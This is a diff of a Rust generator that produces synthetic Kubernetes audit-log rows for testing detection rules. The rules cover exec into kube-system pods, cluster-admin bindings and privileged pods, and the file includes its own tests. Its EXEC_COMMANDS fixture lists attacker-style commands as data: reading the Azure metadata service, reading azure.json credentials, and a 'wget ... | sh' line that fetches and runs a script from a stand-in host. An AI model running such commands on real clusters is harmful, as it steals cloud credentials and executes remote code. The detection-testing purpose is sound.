@@ -77,9 +77,9 @@ pub struct SampleStats {
     /// Bytes written, newlines included.
     pub bytes: u64,
     /// Planted matches, one entry per rule of [`REFERENCE_RULES`], in order.
-    /// Exact when the detector's `now` lies between [`SampleOptions::now`]
-    /// and one hour after it: planted rows are at most 23 hours old, and
-    /// decoys only the time filter rejects are over 25 hours old.
+    /// Exact for a detector whose `now` is within an hour of
+    /// [`SampleOptions::now`]: planted rows are at most 23 hours old, and
+    /// decoys that only the time filter rejects are over 25 hours old.
     pub matches_per_rule: [RuleMatches; 3],
 }
 
@@ -764,7 +764,9 @@ const fn api_resource(
     }
 }
 
+#[rustfmt::skip]
 const RESOURCES: &[Resource] = &[
+    // name, API group, version, namespaced, naming, read weight
     api_resource("pods", "", "v1", true, Naming::Pod, 30),
     api_resource("configmaps", "", "v1", true, Naming::ConfigMap, 14),
     api_resource("secrets", "", "v1", true, Naming::Secret, 10),
@@ -834,7 +836,9 @@ const fn app(
     }
 }
 
+#[rustfmt::skip]
 const APPS: &[App] = &[
+    // namespace, name, image, daemon set, privileged, port (0: none)
     app("kube-system", "coredns", "mcr.microsoft.com/oss/kubernetes/coredns:v1.9.4", false, false, 53),
     app("kube-system", "metrics-server", "mcr.microsoft.com/oss/kubernetes/metrics-server:v0.6.4", false, false, 4443),
     app("kube-system", "konnectivity-agent", "mcr.microsoft.com/oss/kubernetes/apiserver-network-proxy/agent:v0.1.6", false, false, 8082),
@@ -863,7 +867,10 @@ const APPS: &[App] = &[
 const SIDECARS: &[(&str, &str)] = &[
     ("istio-proxy", "mcr.microsoft.com/oss/istio/proxyv2:1.21.2"),
     ("fluent-bit", "fluent/fluent-bit:3.0.4"),
-    ("config-reloader", "ghcr.io/jimmidyson/configmap-reload:v0.12.0"),
+    (
+        "config-reloader",
+        "ghcr.io/jimmidyson/configmap-reload:v0.12.0",
+    ),
 ];
 
 /// The `exec` rule ignores pods of these AKS tunnels (matched without
@@ -879,7 +886,11 @@ const EXEC_COMMANDS: &[&[&str]] = &[
     &["cat", "/etc/kubernetes/azure.json"],
     &["ls", "-la", "/var/run/secrets/kubernetes.io/serviceaccount"],
     &["nslookup", "kubernetes.default.svc.cluster.local"],
-    &["sh", "-c", "curl -s -H Metadata:true http://169.254.169.254/metadata/instance?api-version=2021-02-01"],
+    &[
+        "sh",
+        "-c",
+        "curl -s -H Metadata:true http://169.254.169.254/metadata/instance?api-version=2021-02-01",
+    ],
     &["sh", "-c", "wget -qO- http://198.51.100.9/x.sh | sh"],
     &["ps", "aux"],
 ];
@@ -965,7 +976,8 @@ impl Event {
     }
 }
 
-/// Where ready-made lists of table indexes live, computed once.
+/// Builds rows: the random state, the event being built, and lookups
+/// derived once from the static tables.
 struct Generator {
     rng: SplitMix64,
     now_us: i64,
@@ -983,9 +995,7 @@ struct Generator {
     scratch: String,
 }
 
-/// Background event kinds and how common they are (per ten thousand),
-/// roughly as in a busy AKS cluster's audit log: reads dominate, then lease
-/// renewals and events.
+/// Kinds of background event.
 #[derive(Debug, Clone, Copy)]
 enum Kind {
     Get,
@@ -1005,6 +1015,9 @@ enum Kind {
     ClusterRoleBindingCreate,
 }
 
+/// How common each background kind is, per ten thousand rows, roughly as in
+/// a busy AKS cluster's audit log: reads dominate, then lease renewals and
+/// events; creates, deletes and execs by people are rare.
 const KINDS: &[(u32, Kind)] = &[
     (3300, Kind::Get),
     (1500, Kind::List),
@@ -1050,7 +1063,11 @@ impl Generator {
             let indexes = if actor.reads.is_empty() {
                 (0..RESOURCES.len()).collect()
             } else {
-                actor.reads.iter().map(|name| resource_index(name)).collect()
+                actor
+                    .reads
+                    .iter()
+                    .map(|name| resource_index(name))
+                    .collect()
             };
             reads.push(indexes);
         }
@@ -1091,7 +1108,8 @@ impl Generator {
         } else {
             let progress = u128::from(written.min(self.target_bytes)) * MICROS_PER_DAY as u128
                 / u128::from(self.target_bytes);
-            self.now_us - MICROS_PER_DAY + progress as i64 - self.rng.range(1, 3 * MICROS_PER_SECOND)
+            self.now_us - MICROS_PER_DAY + progress as i64
+                - self.rng.range(1, 3 * MICROS_PER_SECOND)
         };
         let planted = if self.rng.chance(self.match_rate) {
             let rule = RULES[(self.planted % 3) as usize];
@@ -1175,7 +1193,9 @@ impl Generator {
             (7, Role::Human),
             (2, Role::AksInternal),
         ]);
-        let role = if role == Role::AksInternal && CLUSTERS[self.event.cluster].platform != Platform::Aks {
+        let role = if role == Role::AksInternal
+            && CLUSTERS[self.event.cluster].platform != Platform::Aks
+        {
             Role::Component
         } else {
             role
@@ -1262,13 +1282,18 @@ impl Generator {
                 }
             }
             "list" => match self.rng.below(4) {
-                0 => self.event.request_uri.push_str("?limit=500&resourceVersion=0"),
+                0 => self
+                    .event
+                    .request_uri
+                    .push_str("?limit=500&resourceVersion=0"),
                 1 => {
                     self.event.request_uri.push_str("?labelSelector=app%3D");
                     self.event.request_uri.push_str(APPS[app].name);
                 }
                 2 if r.name == "pods" => {
-                    self.event.request_uri.push_str("?fieldSelector=spec.nodeName%3D");
+                    self.event
+                        .request_uri
+                        .push_str("?fieldSelector=spec.nodeName%3D");
                     let node = self.rng.pick(CLUSTERS[self.event.cluster].nodes);
                     self.event.request_uri.push_str(node);
                     self.event.request_uri.push_str("&limit=500");
@@ -1310,8 +1335,14 @@ impl Generator {
             let (actor, name) = self.rng.pick(&[
                 ("system:kube-controller-manager", "kube-controller-manager"),
                 ("system:kube-scheduler", "kube-scheduler"),
-                ("system:serviceaccount:cert-manager:cert-manager", "cert-manager-controller"),
-                ("system:serviceaccount:ingress-nginx:ingress-nginx", "ingress-nginx-leader"),
+                (
+                    "system:serviceaccount:cert-manager:cert-manager",
+                    "cert-manager-controller",
+                ),
+                (
+                    "system:serviceaccount:ingress-nginx:ingress-nginx",
+                    "ingress-nginx-leader",
+                ),
             ]);
             let actor = actor_index(actor);
             self.set_actor(actor);
@@ -1365,10 +1396,11 @@ impl Generator {
 
     fn review_create(&mut self) {
         self.event.cluster = self.pick_cluster(&[]);
-        let actor = actor_index(
-            self.rng
-                .pick(&["system:serviceaccount:kube-system:metrics-server", "system:kube-controller-manager", "system:serviceaccount:monitoring:kube-state-metrics"]),
-        );
+        let actor = actor_index(self.rng.pick(&[
+            "system:serviceaccount:kube-system:metrics-server",
+            "system:kube-controller-manager",
+            "system:serviceaccount:monitoring:kube-state-metrics",
+        ]));
         self.set_actor(actor);
         self.event.verb = "create";
         self.event.resource = resource_index(if self.rng.below(2) == 0 {
@@ -1433,7 +1465,8 @@ impl Generator {
                 message.push_str("\" is forbidden: violates PodSecurity \"baseline:latest\": privileged (container \"");
                 message.push_str(short_name(APPS[app].name));
                 message.push_str("\" must not set securityContext.privileged=true)");
-                self.event.extra_annotation = ",\"pod-security.kubernetes.io/enforce-policy\":\"baseline:latest\"";
+                self.event.extra_annotation =
+                    ",\"pod-security.kubernetes.io/enforce-policy\":\"baseline:latest\"";
             } else {
                 self.fail(403);
             }
@@ -1514,7 +1547,9 @@ impl Generator {
                 self.event.name.push_str("-config");
                 self.event.level = "Request";
                 let object = &mut self.event.request_object;
-                object.push_str("{\"kind\":\"ConfigMap\",\"apiVersion\":\"v1\",\"metadata\":{\"name\":");
+                object.push_str(
+                    "{\"kind\":\"ConfigMap\",\"apiVersion\":\"v1\",\"metadata\":{\"name\":",
+                );
                 push_json_string(object, &self.event.name);
                 object.push_str(",\"namespace\":");
                 push_json_string(object, self.event.namespace);
@@ -1548,13 +1583,21 @@ impl Generator {
             actor_index("system:serviceaccount:argocd:argocd-application-controller")
         };
         self.set_actor(actor);
-        self.event.verb = if self.rng.below(3) == 0 { "update" } else { "patch" };
+        self.event.verb = if self.rng.below(3) == 0 {
+            "update"
+        } else {
+            "patch"
+        };
         let app = self.pick_app();
         match self.rng.below(6) {
             0 => {
                 // Also a (cluster-admin) binding: only creates count.
                 self.event.resource = resource_index("clusterrolebindings");
-                self.event.name.push_str(self.rng.pick(&["ops-team-admin", "aks-cluster-admin-binding", "argocd-application-controller"]));
+                self.event.name.push_str(self.rng.pick(&[
+                    "ops-team-admin",
+                    "aks-cluster-admin-binding",
+                    "argocd-application-controller",
+                ]));
             }
             1 | 2 => {
                 self.event.resource = resource_index("configmaps");
@@ -1563,14 +1606,20 @@ impl Generator {
                 self.event.name.push_str("-config");
             }
             _ => {
-                self.event.resource = resource_index(if APPS[app].daemon_set { "daemonsets" } else { "deployments" });
+                self.event.resource = resource_index(if APPS[app].daemon_set {
+                    "daemonsets"
+                } else {
+                    "deployments"
+                });
                 self.event.namespace = APPS[app].namespace;
                 self.event.name.push_str(APPS[app].name);
             }
         }
         self.build_uri();
         if self.event.verb == "patch" {
-            self.event.request_uri.push_str("?fieldManager=kubectl-client-side-apply&fieldValidation=Strict");
+            self.event
+                .request_uri
+                .push_str("?fieldManager=kubectl-client-side-apply&fieldValidation=Strict");
         }
         if self.rng.below(20) == 0 {
             self.fail(409);
@@ -1598,7 +1647,9 @@ impl Generator {
                 let app = actor_app("konnectivity-agent");
                 self.event.namespace = "kube-system";
                 if self.rng.below(2) == 0 {
-                    self.event.name.push_str(self.rng.pick(&["tunnelfront-", "aks-link-"]));
+                    self.event
+                        .name
+                        .push_str(self.rng.pick(&["tunnelfront-", "aks-link-"]));
                     push_random_name(&mut self.event.name, &mut self.rng, 10);
                     self.event.name.push('-');
                     push_random_name(&mut self.event.name, &mut self.rng, 5);
@@ -1633,7 +1684,11 @@ impl Generator {
                 self.set_actor(actor);
                 let app = self.pick_app_in("kube-system");
                 self.event.namespace = "kube-system";
-                self.event.subresource = if self.rng.below(2) == 0 { "attach" } else { "portforward" };
+                self.event.subresource = if self.rng.below(2) == 0 {
+                    "attach"
+                } else {
+                    "portforward"
+                };
                 self.pod_name(app);
                 app
             }
@@ -1688,12 +1743,31 @@ impl Generator {
         self.set_actor(actor);
         let role = match case {
             0 | 3 => "cluster-admin",
-            _ => self.rng.pick(&["view", "edit", "admin", "system:auth-delegator", "cert-manager-controller-certificates", "kube-state-metrics"]),
+            _ => self.rng.pick(&[
+                "view",
+                "edit",
+                "admin",
+                "system:auth-delegator",
+                "cert-manager-controller-certificates",
+                "kube-state-metrics",
+            ]),
         };
         let name = match case {
-            0 => self.rng.pick(&["aks-cluster-admin-binding", "aks-cluster-admin-binding-aad", "aks-service-rolebinding"]),
-            3 => self.rng.pick(&["debug-admin", "tmp-cluster-admin", "platform-admins"]),
-            _ => self.rng.pick(&["auditors-view", "devs-edit", "metrics-server:system:auth-delegator", "cert-manager-controller-certificates", "kube-state-metrics"]),
+            0 => self.rng.pick(&[
+                "aks-cluster-admin-binding",
+                "aks-cluster-admin-binding-aad",
+                "aks-service-rolebinding",
+            ]),
+            3 => self
+                .rng
+                .pick(&["debug-admin", "tmp-cluster-admin", "platform-admins"]),
+            _ => self.rng.pick(&[
+                "auditors-view",
+                "devs-edit",
+                "metrics-server:system:auth-delegator",
+                "cert-manager-controller-certificates",
+                "kube-state-metrics",
+            ]),
         };
         let subjects = 1 + self.rng.below(2);
         self.binding_create(name, role, subjects);
@@ -1729,9 +1803,15 @@ impl Generator {
         self.event.code = 201;
         self.build_uri();
         if human {
-            self.event.name.push_str(self.rng.pick(&["debug-", "node-shell-", "priv-", "toolbox-"]));
+            self.event.name.push_str(self.rng.pick(&[
+                "debug-",
+                "node-shell-",
+                "priv-",
+                "toolbox-",
+            ]));
             push_random_name(&mut self.event.name, &mut self.rng, 5);
-            self.event.extra_annotation = ",\"pod-security.kubernetes.io/enforce-policy\":\"privileged:latest\"";
+            self.event.extra_annotation =
+                ",\"pod-security.kubernetes.io/enforce-policy\":\"privileged:latest\"";
         }
         let privileged = if self.rng.below(5) == 0 { 2 } else { 1 };
         self.pod_object(app, human, privileged)
@@ -1743,7 +1823,9 @@ impl Generator {
         let actor = self.pick_actor(&[Role::Human]);
         self.set_actor(actor);
         // kubectl before 1.30 execs with a POST, which audits as create.
-        if self.event.user_agent.starts_with("kubectl/v1.30") || !self.event.user_agent.starts_with("kubectl") {
+        if self.event.user_agent.starts_with("kubectl/v1.30")
+            || !self.event.user_agent.starts_with("kubectl")
+        {
             self.event.user_agent = "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819";
         }
         self.event.verb = "create";
@@ -1774,7 +1856,13 @@ impl Generator {
             self.pick_actor(&[Role::Human])
         };
         self.set_actor(actor);
-        let name = self.rng.pick(&["ops-admins-binding", "break-glass-admin", "backup-operator-admin", "tmp-debug-admin", "ci-deployer-admin"]);
+        let name = self.rng.pick(&[
+            "ops-admins-binding",
+            "break-glass-admin",
+            "backup-operator-admin",
+            "tmp-debug-admin",
+            "ci-deployer-admin",
+        ]);
         let subjects = 1 + self.rng.below(2);
         self.binding_create(name, "cluster-admin", subjects);
         subjects as u64
@@ -1806,12 +1894,25 @@ impl Generator {
                     object.push_str("\"}");
                 }
                 1 => {
-                    object.push_str("{\"kind\":\"User\",\"apiGroup\":\"rbac.authorization.k8s.io\",\"name\":");
-                    push_json_string(object, self.rng.pick(&["bob@contoso.com", "mallory@fabrikam.com", "oncall@contoso.com"]));
+                    object.push_str(
+                        "{\"kind\":\"User\",\"apiGroup\":\"rbac.authorization.k8s.io\",\"name\":",
+                    );
+                    push_json_string(
+                        object,
+                        self.rng.pick(&[
+                            "bob@contoso.com",
+                            "mallory@fabrikam.com",
+                            "oncall@contoso.com",
+                        ]),
+                    );
                     object.push('}');
                 }
                 _ => {
-                    let (account, namespace) = self.rng.pick(&[("default", "default"), ("ci-deployer", "ci"), ("backup", "velero")]);
+                    let (account, namespace) = self.rng.pick(&[
+                        ("default", "default"),
+                        ("ci-deployer", "ci"),
+                        ("backup", "velero"),
+                    ]);
                     object.push_str("{\"kind\":\"ServiceAccount\",\"name\":");
                     push_json_string(object, account);
                     object.push_str(",\"namespace\":");
@@ -1862,7 +1963,11 @@ impl Generator {
         object.push('}');
         if !named {
             object.push_str(",\"ownerReferences\":[{\"apiVersion\":\"apps/v1\",\"kind\":");
-            object.push_str(if a.daemon_set { "\"DaemonSet\"" } else { "\"ReplicaSet\"" });
+            object.push_str(if a.daemon_set {
+                "\"DaemonSet\""
+            } else {
+                "\"ReplicaSet\""
+            });
             object.push_str(",\"name\":\"");
             object.push_str(a.name);
             if !a.daemon_set {
@@ -1893,7 +1998,14 @@ impl Generator {
             } else {
                 self.rng.pick(UNPRIVILEGED_SECURITY_CONTEXTS)
             };
-            push_container(object, name, image, if i == 0 { a.port } else { 0 }, &volume, security_context);
+            push_container(
+                object,
+                name,
+                image,
+                if i == 0 { a.port } else { 0 },
+                &volume,
+                security_context,
+            );
         }
         object.push_str("],\"restartPolicy\":\"Always\",\"terminationGracePeriodSeconds\":30,\"dnsPolicy\":\"ClusterFirst\",\"serviceAccountName\":\"default\",\"securityContext\":{},\"schedulerName\":\"default-scheduler\",\"tolerations\":[{\"key\":\"node.kubernetes.io/not-ready\",\"operator\":\"Exists\",\"effect\":\"NoExecute\",\"tolerationSeconds\":300}],\"priority\":0,\"enableServiceLinks\":true,\"preemptionPolicy\":\"PreemptLowerPriority\"},\"status\":{}}");
         privileged as u64
@@ -1921,13 +2033,30 @@ impl Generator {
         }
         object.push_str("\"selector\":{\"matchLabels\":{\"app\":");
         push_json_string(object, a.name);
-        object.push_str("}},\"template\":{\"metadata\":{\"creationTimestamp\":null,\"labels\":{\"app\":");
+        object.push_str(
+            "}},\"template\":{\"metadata\":{\"creationTimestamp\":null,\"labels\":{\"app\":",
+        );
         push_json_string(object, a.name);
         object.push_str("}},\"spec\":{\"containers\":[");
-        let security_context = if a.privileged { "{\"privileged\":true}" } else { self.rng.pick(UNPRIVILEGED_SECURITY_CONTEXTS) };
-        push_container(object, short_name(a.name), a.image, a.port, "", security_context);
+        let security_context = if a.privileged {
+            "{\"privileged\":true}"
+        } else {
+            self.rng.pick(UNPRIVILEGED_SECURITY_CONTEXTS)
+        };
+        push_container(
+            object,
+            short_name(a.name),
+            a.image,
+            a.port,
+            "",
+            security_context,
+        );
         object.push_str("],\"restartPolicy\":\"Always\",\"terminationGracePeriodSeconds\":30,\"dnsPolicy\":\"ClusterFirst\",\"securityContext\":{},\"schedulerName\":\"default-scheduler\"}}");
-        object.push_str(if a.daemon_set { ",\"updateStrategy\":{}},\"status\":{}}" } else { ",\"strategy\":{}},\"status\":{}}" });
+        object.push_str(if a.daemon_set {
+            ",\"updateStrategy\":{}},\"status\":{}}"
+        } else {
+            ",\"strategy\":{}},\"status\":{}}"
+        });
     }
 
     /// Appends `?command=...&container=...` to the exec URI.
@@ -1948,7 +2077,11 @@ impl Generator {
         }
         uri.push_str("container=");
         uri.push_str(short_name(APPS[app].name));
-        uri.push_str(if command.len() == 1 { "&stdin=true&stdout=true&tty=true" } else { "&stderr=true&stdout=true" });
+        uri.push_str(if command.len() == 1 {
+            "&stdin=true&stdout=true&tty=true"
+        } else {
+            "&stderr=true&stdout=true"
+        });
     }
 
     /// Appends a name for an object of the event's resource.
@@ -1989,7 +2122,11 @@ impl Generator {
             },
             Naming::Secret => {
                 name.push_str(a.name);
-                name.push_str(if self.rng.below(2) == 0 { "-tls" } else { "-credentials" });
+                name.push_str(if self.rng.below(2) == 0 {
+                    "-tls"
+                } else {
+                    "-credentials"
+                });
             }
             Naming::Namespace => name.push_str(a.namespace),
             Naming::Event => {
@@ -1997,8 +2134,20 @@ impl Generator {
                 name.push('.');
                 push_hex(name, self.rng.next_u64(), 16);
             }
-            Naming::ClusterRole => name.push_str(self.rng.pick(&["cluster-admin", "view", "edit", "system:node", "system:coredns"])),
-            Naming::ClusterRoleBinding => name.push_str(self.rng.pick(&["aks-cluster-admin-binding", "ops-team-admin", "system:coredns", "system:kube-scheduler", "kube-state-metrics"])),
+            Naming::ClusterRole => name.push_str(self.rng.pick(&[
+                "cluster-admin",
+                "view",
+                "edit",
+                "system:node",
+                "system:coredns",
+            ])),
+            Naming::ClusterRoleBinding => name.push_str(self.rng.pick(&[
+                "aks-cluster-admin-binding",
+                "ops-team-admin",
+                "system:coredns",
+                "system:kube-scheduler",
+                "kube-state-metrics",
+            ])),
             Naming::Fixed(fixed) => name.push_str(fixed),
         }
     }
@@ -2066,9 +2215,13 @@ impl Generator {
                 event.failure_reason = "Forbidden";
                 event.denied = true;
                 qualified(message);
-                message.push_str(" \"");
-                message.push_str(&event.name);
-                message.push_str("\" is forbidden: User \"");
+                // Lists and watches have no name to quote.
+                if !event.name.is_empty() {
+                    message.push_str(" \"");
+                    message.push_str(&event.name);
+                    message.push('"');
+                }
+                message.push_str(" is forbidden: User \"");
                 push_username(message, &ACTORS[event.actor], event.node);
                 message.push_str("\" cannot ");
                 message.push_str(event.verb);
@@ -2130,7 +2283,11 @@ impl Generator {
                 let octet = if event.node.is_empty() {
                     4 + self.rng.below(60)
                 } else {
-                    4 + cluster.nodes.iter().position(|n| *n == event.node).unwrap_or(0)
+                    4 + cluster
+                        .nodes
+                        .iter()
+                        .position(|n| *n == event.node)
+                        .unwrap_or(0)
                 };
                 push_u64(ip, octet as u64);
             }
@@ -2168,12 +2325,16 @@ impl Generator {
                 out.push_str(",\"Isp\":");
                 push_json_string(out, client.isp);
             }
-            None => out.push_str(",\"IsAnonymousProxy\":null,\"CountryCode\":\"\",\"City\":\"\",\"Isp\":\"\""),
+            None => out.push_str(
+                ",\"IsAnonymousProxy\":null,\"CountryCode\":\"\",\"City\":\"\",\"Isp\":\"\"",
+            ),
         }
         out.push_str(",\"UserAgent\":");
         push_json_string(out, event.user_agent);
 
-        out.push_str(",\"RawEventData\":{\"Kind\":\"Event\",\"ApiVersion\":\"audit.k8s.io/v1\",\"Level\":\"");
+        out.push_str(
+            ",\"RawEventData\":{\"Kind\":\"Event\",\"ApiVersion\":\"audit.k8s.io/v1\",\"Level\":\"",
+        );
         out.push_str(event.level);
         out.push_str("\",\"AuditId\":\"");
         push_uuid(out, &mut self.rng);
@@ -2289,16 +2450,20 @@ fn actor_app(name: &str) -> usize {
 
 fn starts_with_exempt_prefix(pod: &str) -> bool {
     EXEC_EXEMPT_PREFIXES.iter().any(|prefix| {
-        pod.len() >= prefix.len() && pod.as_bytes()[..prefix.len()].eq_ignore_ascii_case(prefix.as_bytes())
+        pod.len() >= prefix.len()
+            && pod.as_bytes()[..prefix.len()].eq_ignore_ascii_case(prefix.as_bytes())
     })
 }
 
-/// The container name for an app's main container: the app name without
-/// its namespace-ish prefix (`ingress-nginx-controller` → `controller`).
+/// The name of an app's main container: mostly the app's own name, but
+/// some charts call it by its role.
 fn short_name(app: &str) -> &str {
-    app.rsplit_once('-')
-        .filter(|(_, last)| matches!(*last, "controller" | "server" | "manager"))
-        .map_or(app, |(_, last)| last)
+    match app {
+        "ingress-nginx-controller" => "controller",
+        "gatekeeper-controller-manager" => "manager",
+        "argocd-repo-server" => "repo-server",
+        _ => app,
+    }
 }
 
 fn push_username(out: &mut String, actor: &Actor, node: &str) {
@@ -2308,7 +2473,14 @@ fn push_username(out: &mut String, actor: &Actor, node: &str) {
     }
 }
 
-fn push_container(out: &mut String, name: &str, image: &str, port: u16, volume: &str, security_context: &str) {
+fn push_container(
+    out: &mut String,
+    name: &str,
+    image: &str,
+    port: u16,
+    volume: &str,
+    security_context: &str,
+) {
     out.push_str("{\"name\":");
     push_json_string(out, name);
     out.push_str(",\"image\":");
@@ -2420,7 +2592,9 @@ fn push_uuid(out: &mut String, rng: &mut SplitMix64) {
 fn push_random_name(out: &mut String, rng: &mut SplitMix64, len: usize) {
     let mut bits = rng.next_u64();
     for _ in 0..len {
-        out.push(char::from(NAME_ALPHABET[(bits % NAME_ALPHABET.len() as u64) as usize]));
+        out.push(char::from(
+            NAME_ALPHABET[(bits % NAME_ALPHABET.len() as u64) as usize],
+        ));
         bits /= NAME_ALPHABET.len() as u64;
     }
 }
@@ -2465,11 +2639,16 @@ fn civil_from_days(days: i64) -> (i64, u32, u32) {
     let z = days + 719_468;
     let era = z.div_euclid(146_097);
     let day_of_era = z.rem_euclid(146_097);
-    let year_of_era = (day_of_era - day_of_era / 1_460 + day_of_era / 36_524 - day_of_era / 146_096) / 365;
+    let year_of_era =
+        (day_of_era - day_of_era / 1_460 + day_of_era / 36_524 - day_of_era / 146_096) / 365;
     let day_of_year = day_of_era - (365 * year_of_era + year_of_era / 4 - year_of_era / 100);
     let month_index = (5 * day_of_year + 2) / 153;
     let day = (day_of_year - (153 * month_index + 2) / 5 + 1) as u32;
-    let month = if month_index < 10 { month_index + 3 } else { month_index - 9 } as u32;
+    let month = if month_index < 10 {
+        month_index + 3
+    } else {
+        month_index - 9
+    } as u32;
     let year = year_of_era + era * 400 + i64::from(month <= 2);
     (year, month, day)
 }
@@ -2570,7 +2749,9 @@ mod tests {
     fn exec_in_kube_system(row: &Value, now: DateTime<Utc>) -> u64 {
         let raw = &row["RawEventData"];
         let code_is_101 = at(raw, &["ResponseStatus", "code"]).as_f64() == Some(101.0);
-        let pod = string_form(at(raw, &["ObjectRef", "name"])).unwrap_or_default().to_lowercase();
+        let pod = string_form(at(raw, &["ObjectRef", "name"]))
+            .unwrap_or_default()
+            .to_lowercase();
         let matches = within_a_day(row, now)
             && equals(&row["DataSource"], "Azure Kubernetes Service")
             && equals(&row["OperationName"], "create")
@@ -2591,7 +2772,10 @@ mod tests {
             && equals(&row["OperationName"], "create")
             && equals(at(raw, &["ObjectRef", "resource"]), "clusterrolebindings")
             && starts_with(at(raw, &["ResponseStatus", "code"]), "20")
-            && equals(at(raw, &["RequestObject", "roleRef", "name"]), "cluster-admin"))
+            && equals(
+                at(raw, &["RequestObject", "roleRef", "name"]),
+                "cluster-admin",
+            ))
         {
             return 0;
         }
@@ -2644,7 +2828,11 @@ mod tests {
         let lines = out.split(|&b| b == b'\n').filter(|l| !l.is_empty()).count();
         assert_eq!(stats.rows, lines as u64);
         // The last line is the one that crossed the target.
-        let last_line_start = out[..out.len() - 1].iter().rposition(|&b| b == b'\n').unwrap() + 1;
+        let last_line_start = out[..out.len() - 1]
+            .iter()
+            .rposition(|&b| b == b'\n')
+            .unwrap()
+            + 1;
         assert!((last_line_start as u64) < 100_000);
 
         let (empty, stats) = generate(0, 3, DEFAULT_MATCH_RATE_PER_MILLION);
@@ -2655,9 +2843,21 @@ mod tests {
     #[test]
     fn every_line_is_an_object_with_the_fifteen_columns() {
         const COLUMNS: [&str; 15] = [
-            "Timestamp", "ReportId", "DataSource", "ActionType", "OperationName", "ResourceId",
-            "AzureResourceId", "IPAddress", "IsAnonymousProxy", "CountryCode", "City", "Isp",
-            "UserAgent", "RawEventData", "AdditionalFields",
+            "Timestamp",
+            "ReportId",
+            "DataSource",
+            "ActionType",
+            "OperationName",
+            "ResourceId",
+            "AzureResourceId",
+            "IPAddress",
+            "IsAnonymousProxy",
+            "CountryCode",
+            "City",
+            "Isp",
+            "UserAgent",
+            "RawEventData",
+            "AdditionalFields",
         ];
         let (out, _) = generate(2_000_000, 5, 50_000);
         let rows = rows(&out);
@@ -2670,14 +2870,35 @@ mod tests {
                 assert!(object.contains_key(column), "{column} missing in {row}");
             }
             let raw = &row["RawEventData"];
-            for key in ["Kind", "ApiVersion", "Level", "AuditId", "Stage", "RequestURI", "Verb", "User", "SourceIPs", "ObjectRef", "ResponseStatus", "RequestReceivedTimestamp", "StageTimestamp", "Annotations"] {
-                assert!(raw.get(key).is_some(), "RawEventData.{key} missing in {row}");
+            for key in [
+                "Kind",
+                "ApiVersion",
+                "Level",
+                "AuditId",
+                "Stage",
+                "RequestURI",
+                "Verb",
+                "User",
+                "SourceIPs",
+                "ObjectRef",
+                "ResponseStatus",
+                "RequestReceivedTimestamp",
+                "StageTimestamp",
+                "Annotations",
+            ] {
+                assert!(
+                    raw.get(key).is_some(),
+                    "RawEventData.{key} missing in {row}"
+                );
             }
             assert_eq!(raw["Verb"], row["OperationName"]);
             let timestamp = row["Timestamp"].as_str().unwrap();
             // ISO 8601 with milliseconds: 2024-05-28T08:01:12.345Z
             assert_eq!(timestamp.len(), 24, "{timestamp}");
-            assert!(DateTime::parse_from_rfc3339(timestamp).is_ok(), "{timestamp}");
+            assert!(
+                DateTime::parse_from_rfc3339(timestamp).is_ok(),
+                "{timestamp}"
+            );
         }
     }
 
@@ -2695,9 +2916,15 @@ mod tests {
             }
         }
         // About 0.3 % of rows are older than a day, on purpose.
-        assert!(older > 0 && older < rows.len() / 50, "{older} of {}", rows.len());
+        assert!(
+            older > 0 && older < rows.len() / 50,
+            "{older} of {}",
+            rows.len()
+        );
         let first = DateTime::parse_from_rfc3339(rows[0]["Timestamp"].as_str().unwrap()).unwrap();
-        let last = DateTime::parse_from_rfc3339(rows[rows.len() - 1]["Timestamp"].as_str().unwrap()).unwrap();
+        let last =
+            DateTime::parse_from_rfc3339(rows[rows.len() - 1]["Timestamp"].as_str().unwrap())
+                .unwrap();
         assert!(first < now() - chrono::Duration::hours(23));
         assert!(last > now() - chrono::Duration::minutes(1));
     }
@@ -2706,7 +2933,10 @@ mod tests {
     fn average_line_is_between_1_2_and_2_kilobytes() {
         let (_, stats) = generate(5_000_000, 7, DEFAULT_MATCH_RATE_PER_MILLION);
         let average = stats.bytes / stats.rows;
-        assert!((1_200..=2_000).contains(&average), "average line {average} bytes");
+        assert!(
+            (1_200..=2_000).contains(&average),
+            "average line {average} bytes"
+        );
     }
 
     #[test]
@@ -2722,7 +2952,10 @@ mod tests {
         }
         // Both array forms occur: one pod with two privileged containers, one
         // binding with two subjects.
-        assert!(found[0].1 > found[0].0 && found[2].1 > found[2].0, "{found:?}");
+        assert!(
+            found[0].1 > found[0].0 && found[2].1 > found[2].0,
+            "{found:?}"
+        );
         // A detector started up to an hour later finds the same.
         let later = now() + chrono::Duration::minutes(59);
         assert_eq!(evaluate(&rows, later), found);
@@ -2750,12 +2983,29 @@ mod tests {
                 && equals(&raw(r, &["ObjectRef", "subresource"]), "exec")
         };
         // Exec into AKS's tunnel pods, and exec by GET (kubectl 1.30+).
-        assert!(count(&|r| kube_system_exec(r) && raw(r, &["ResponseStatus", "code"]) == 101 && equals(&r["OperationName"], "create") && equals(&r["DataSource"], AKS)) > 0);
+        assert!(
+            count(&|r| kube_system_exec(r)
+                && raw(r, &["ResponseStatus", "code"]) == 101
+                && equals(&r["OperationName"], "create")
+                && equals(&r["DataSource"], AKS))
+                > 0
+        );
         assert!(count(&|r| kube_system_exec(r) && equals(&r["OperationName"], "get")) > 0);
         // Cluster-admin bindings made by AKS itself.
-        assert!(count(&|r| equals(&raw(r, &["RequestObject", "roleRef", "name"]), "cluster-admin") && equals(&raw(r, &["User", "username"]), "acsService")) > 0);
+        assert!(
+            count(&|r| equals(
+                &raw(r, &["RequestObject", "roleRef", "name"]),
+                "cluster-admin"
+            ) && equals(&raw(r, &["User", "username"]), "acsService"))
+                > 0
+        );
         // Privileged pods created outside AKS.
-        assert!(count(&|r| equals(&raw(r, &["RequestObject", "kind"]), "Pod") && !equals(&r["DataSource"], AKS) && r.to_string().contains("\"privileged\":true")) > 0);
+        assert!(
+            count(&|r| equals(&raw(r, &["RequestObject", "kind"]), "Pod")
+                && !equals(&r["DataSource"], AKS)
+                && r.to_string().contains("\"privileged\":true"))
+                > 0
+        );
     }
 
     #[test]
@@ -2763,7 +3013,9 @@ mod tests {
         assert!(starts_with_exempt_prefix("Tunnelfront-Upper"));
         assert!(starts_with_exempt_prefix("konnectivity-agent-6f7d9-x2kqp"));
         assert!(!starts_with_exempt_prefix("coredns-abc"));
-        assert!(APPS.iter().any(|a| a.namespace == "kube-system" && !starts_with_exempt_prefix(a.name)));
+        assert!(APPS
+            .iter()
+            .any(|a| a.namespace == "kube-system" && !starts_with_exempt_prefix(a.name)));
     }
 
     #[test]
@@ -2783,7 +3035,13 @@ mod tests {
 
     #[test]
     fn json_strings_are_escaped() {
